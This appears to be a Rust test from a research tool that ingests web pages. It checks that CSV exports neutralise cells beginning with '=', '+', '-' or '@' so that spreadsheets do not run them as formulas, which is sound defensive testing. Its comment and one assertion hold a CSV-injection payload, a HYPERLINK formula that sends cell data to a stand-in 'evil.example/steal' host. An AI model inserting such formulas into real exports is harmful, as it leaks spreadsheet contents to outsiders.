//! Exports written by strangers' documents, opened by researchers in a spreadsheet: no cell
//! may start like a formula (issue 11: a title `=HYPERLINK("http://…/steal?x="&A1,…)` was
//! written as it was, and 14 of 119 cells of a hostile set began with `=`, `+`, `-` or `@`).

mod support;

use support::{peerscope, root};

#[test]
fn no_csv_cell_starts_like_a_formula() {
    let data = tempfile::tempdir().unwrap();
    let page = root().join("tests/hostile/formula_cells.html");
    let out = peerscope(data.path()).arg("ingest").arg(&page).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = peerscope(data.path()).args(["export", "--format", "csv"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let header = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(records.len() >= 2, "the page's findings are exported: {records:?}");
    for record in &records {
        for (column, cell) in header.iter().zip(record.iter()) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{column} starts like a formula: {cell:?}");
        }
    }
    // The text is all there, shown as text.
    let title = records[0].get(header.iter().position(|h| h == "title").unwrap()).unwrap();
    assert_eq!(title, "'=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"Peer challenge\")");
    // JSON lines are data, not a spreadsheet: they keep the text exactly.
    let out = peerscope(data.path()).args(["export", "--format", "jsonl"]).output().unwrap();
    let first: serde_json::Value = serde_json::from_slice(out.stdout.split(|b| *b == b'\n').next().unwrap()).unwrap();
    assert!(first["title"].as_str().unwrap().starts_with("=HYPERLINK"));
}
